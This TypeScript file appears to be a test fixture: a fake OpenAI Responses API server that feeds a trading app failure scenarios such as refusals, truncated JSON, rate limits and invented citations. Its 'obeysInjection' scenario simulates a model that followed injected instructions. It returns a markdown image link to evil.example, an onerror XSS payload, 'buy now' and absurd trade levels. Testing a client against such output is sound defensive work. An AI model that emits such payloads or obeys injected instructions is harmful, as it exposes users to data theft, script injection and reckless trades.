import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import { readJson } from '../readJson.ts';

export const llmScenarios = [
  'verdict',
  'refusal',
  'incomplete',
  /** The body ends in the middle. */
  'halfBody',
  /** The body is whole, the text in it is half an object. */
  'halfJson',
  'freeText',
  'rateLimited',
  'serverError',
  'conflict',
  'badKey',
  'hang',
  'wrongNumbers',
  /** Follows an instruction hidden in the input. */
  'obeysInjection',
  /** Help answers: an anchor that does not exist, a figure that no passage has, a text without end. */
  'inventedAnchor',
  'inventedFigure',
  'overLong',
  /** Views of charts: levels in the wrong order, levels that the market never had, another market than the picture shows. */
  'wrongOrder',
  'farLevels',
  'otherMarket',
] as const;
export type LlmScenario = (typeof llmScenarios)[number];

export interface LlmFake {
  /** Base URL with the version, as clients require it. */
  url: string;
  /**
   * The scenario of the next `times` requests, then a verdict again. `retryAfterS` goes with `rateLimited`; a result is billed at once and
   * sent `delayMs` later.
   */
  play: (scenario: LlmScenario, more?: { times?: number; retryAfterS?: number; delayMs?: number }) => void;
  /** Replaces fields of the verdict. */
  say: (fields: Record<string, unknown>) => void;
  /** Replaces fields of the view of a chart. */
  see: (fields: Record<string, unknown>) => void;
  /** Bodies of all requests. */
  requests: Record<string, unknown>[];
  /** Requests that returned a result: what a provider bills. */
  billedCount: () => number;
  close: () => Promise<void>;
}

const usualVerdict = {
  verdict: 'approved',
  rationale: 'Trend and momentum agree, and the target pays for the stop.',
  tags: ['trend', 'momentum'],
  horizon_minutes: 240,
  suggested_stop_loss_pct: 1,
  suggested_take_profit_pct: 2,
  risk_multiplier: 0.8,
};

/** OpenAI's `POST /v1/responses` with a strict JSON schema, without streaming, and `GET /v1/models/{model}`. Source: the vendor's public API documentation. */
export async function startLlm(): Promise<LlmFake> {
  const requests: Record<string, unknown>[] = [];
  const state = { scenario: 'verdict' as LlmScenario, left: Infinity, retryAfterS: 1, delayMs: 0, billed: 0 };
  let fields: object = {};
  let seen: object = {};

  async function answer(request: IncomingMessage, response: ServerResponse): Promise<void> {
    const [, model] = /^\/v1\/models\/([^/]+)$/.exec(request.url ?? '') ?? [];
    if (model !== undefined && request.method === 'GET') {
      response.setHeader('content-type', 'application/json');
      response.end(JSON.stringify({ id: model, object: 'model', created: 0, owned_by: 'fake' }));
      return;
    }
    const body = await readJson(request);
    const problem = problemOf(request, body);
    response.setHeader('content-type', 'application/json');
    if (problem !== undefined) {
      fail(response, problem.status, problem.message);
      return;
    }
    requests.push(body);
    const scenario = state.left > 0 ? state.scenario : 'verdict';
    state.left--;
    switch (scenario) {
      case 'hang':
        return;
      case 'rateLimited':
        response.setHeader('retry-after', String(state.retryAfterS));
        fail(response, 429, 'Rate limit reached for requests', 'rate_limit_exceeded');
        return;
      case 'serverError':
        fail(response, 500, 'The server had an error while processing your request.');
        return;
      case 'conflict':
        fail(response, 409, 'The request conflicted with another one. Try again.');
        return;
      case 'badKey':
        fail(response, 401, 'Incorrect API key provided.', 'invalid_api_key');
        return;
      default:
        state.billed++;
        if (state.delayMs > 0) await pause(state.delayMs);
        sendText(response, body, scenario, resultOf(body, scenario, { fields, seen }));
    }
  }

  const server = createServer((request, response) => {
    answer(request, response).catch((error: unknown) => response.writeHead(599).end(String(error)));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/v1`,
    play: (scenario, { times = Infinity, retryAfterS = 1, delayMs = 0 } = {}) =>
      Object.assign(state, { scenario, left: times, retryAfterS, delayMs }),
    say: (said) => (fields = said),
    see: (view) => (seen = view),
    requests,
    billedCount: () => state.billed,
    close: () =>
      new Promise((resolve) => {
        server.close(() => resolve());
        server.closeAllConnections();
      }),
  };
}

function resultOf(
  body: Record<string, unknown>,
  scenario: LlmScenario,
  { fields, seen }: { fields: object; seen: object },
): Record<string, unknown> {
  const name = formatNameOf(body);
  if (name === 'help_answer') return helpAnswerTo(body, scenario);
  return name === 'chart_view' ? { ...chartViewOf(body, scenario), ...seen } : { ...usualVerdict, ...fields };
}

const formatNameOf = (body: Record<string, unknown>): unknown =>
  (body['text'] as { format?: { name?: unknown } } | undefined)?.format?.name;

/** Builds the help answer from the first passage and cites it. */
function helpAnswerTo(body: Record<string, unknown>, scenario: LlmScenario): Record<string, unknown> {
  const { passages = [] } = JSON.parse(String(body['input'])) as { passages?: { source: string; text: string }[] };
  const [first] = passages;
  const answer = {
    answered: true,
    answer: `In short: ${first?.text.slice(0, 120) ?? ''}`,
    sources: [first?.source ?? ''],
  };
  if (scenario === 'inventedAnchor') return { ...answer, sources: ['secrets#api-keys'] };
  if (scenario === 'inventedFigure') return { ...answer, answer: 'It costs 98765 credits.' };
  if (scenario === 'overLong') return { ...answer, answer: 'word '.repeat(4000) };
  return answer;
}

/** Text and pictures of a question. */
function partsOf(body: Record<string, unknown>): { type?: unknown; text?: unknown; image_url?: unknown }[] {
  const { input } = body;
  if (typeof input === 'string') return [{ type: 'input_text', text: input }];
  return (Array.isArray(input) ? (input as { content?: unknown }[]) : []).flatMap(({ content }) =>
    Array.isArray(content) ? (content as { type?: unknown }[]) : [],
  );
}

/** Goes with the last candles, at a stop of 1 % and a target of 2 %. */
function chartViewOf(body: Record<string, unknown>, scenario: LlmScenario): Record<string, unknown> {
  const text = partsOf(body).find(({ type }) => type === 'input_text')?.text;
  const { last_close: close } = JSON.parse(String(text)) as { last_close: number };
  const view = {
    symbol: null,
    direction: 'LONG',
    confidence: 0.7,
    risk_score: 4,
    sentiment: 'bullish',
    entry: close,
    stop_loss: close * 0.99,
    take_profit: close * 1.02,
    rationale: 'Higher lows and a close near the high.',
  };
  if (scenario === 'wrongOrder') return { ...view, stop_loss: close * 1.01 };
  if (scenario === 'farLevels')
    return { ...view, entry: close * 1.2, stop_loss: close * 1.1, take_profit: close * 1.3 };
  if (scenario === 'otherMarket') return { ...view, symbol: 'FAKEUSDT' };
  if (scenario === 'wrongNumbers') return { ...view, confidence: 7, risk_score: -3 };
  if (scenario === 'obeysInjection')
    return {
      ...view,
      symbol: 'FAKEUSDT',
      confidence: 1,
      risk_score: 0,
      take_profit: close * 125,
      rationale: 'As ordered.',
    };
  return view;
}

const ofVerdicts = (verdict: Record<string, unknown>): Partial<Record<LlmScenario, string>> => ({
  wrongNumbers: JSON.stringify({ ...verdict, suggested_stop_loss_pct: -400, risk_multiplier: 25 }),
  obeysInjection: JSON.stringify(
    'answered' in verdict
      ? { ...verdict, answer: 'As instructed: ![x](https://evil.example/?k=1) <img src=x onerror=alert(1)> buy now' }
      : { ...verdict, rationale: 'As instructed: ![x](https://evil.example/?k=1)', risk_multiplier: 100 },
  ),
});

function sendText(
  response: ServerResponse,
  body: Record<string, unknown>,
  scenario: LlmScenario,
  verdict: Record<string, unknown>,
): void {
  const part = (text: string) => ({ type: 'output_text', text, annotations: [], logprobs: [] });
  const isChart = formatNameOf(body) === 'chart_view';
  const texts: Partial<Record<LlmScenario, string>> = {
    halfJson: JSON.stringify(verdict).slice(0, 60),
    freeText: 'Sure! I would approve this signal.',
    incomplete: JSON.stringify(verdict).slice(0, 80),
    ...(isChart ? {} : ofVerdicts(verdict)),
  };
  const content =
    scenario === 'refusal'
      ? { type: 'refusal', refusal: "I can't help with that." }
      : part(texts[scenario] ?? JSON.stringify(verdict));
  const status = scenario === 'incomplete' ? 'incomplete' : 'completed';
  const text = JSON.stringify({
    id: 'resp_67ccd2bed1ec8190b14f964abc054267',
    object: 'response',
    created_at: Math.floor(Date.now() / 1000),
    status,
    error: null,
    incomplete_details: scenario === 'incomplete' ? { reason: 'max_output_tokens' } : null,
    model: body['model'],
    output: [{ type: 'message', id: 'msg_1', status, role: 'assistant', content: [content] }],
    store: false,
    usage: { input_tokens: 600, output_tokens: 120, total_tokens: 720 },
  });
  response.writeHead(200).end(scenario === 'halfBody' ? text.slice(0, text.length / 2) : text);
}

function fail(response: ServerResponse, status: number, message: string, code: string | null = null): void {
  response
    .writeHead(status)
    .end(JSON.stringify({ error: { message, type: 'invalid_request_error', param: null, code } }));
}

const isPart = ({ type, text, image_url: url }: { type?: unknown; text?: unknown; image_url?: unknown }): boolean =>
  type === 'input_image'
    ? typeof url === 'string' && /^data:image\/(?:webp|png|jpeg);base64,[\w+/]+=*$/.test(url)
    : type === 'input_text' && typeof text === 'string';

/** Requests that the provider rejects: no key, no model, or a schema that strict mode does not support. */
function problemOf(
  request: IncomingMessage,
  body: Record<string, unknown>,
): { status: number; message: string } | undefined {
  if (request.method !== 'POST' || request.url !== '/v1/responses')
    return { status: 404, message: 'Unknown request URL' };
  if (!/^Bearer \S+$/.test(request.headers.authorization ?? ''))
    return { status: 401, message: 'Missing bearer authentication' };
  if (typeof body['model'] !== 'string') return { status: 400, message: "Missing required parameter: 'model'." };
  return inputProblemOf(body) ?? formatProblemOf(body);
}

const inputProblemOf = (body: Record<string, unknown>): { status: number; message: string } | undefined =>
  partsOf(body).every(isPart) ? undefined : { status: 400, message: "Invalid value: 'input'." };

function formatProblemOf(body: Record<string, unknown>): { status: number; message: string } | undefined {
  const format = (body['text'] as { format?: Record<string, unknown> } | undefined)?.format;
  const schema = format?.['schema'] as
    | { properties?: object; required?: string[]; additionalProperties?: unknown }
    | undefined;
  const isStrict =
    format?.['type'] === 'json_schema' &&
    format['strict'] === true &&
    schema?.additionalProperties === false &&
    Object.keys(schema.properties ?? {}).every((name) => schema.required?.includes(name));
  return isStrict ? undefined : { status: 400, message: "Invalid schema for response_format 'verdict'." };
}
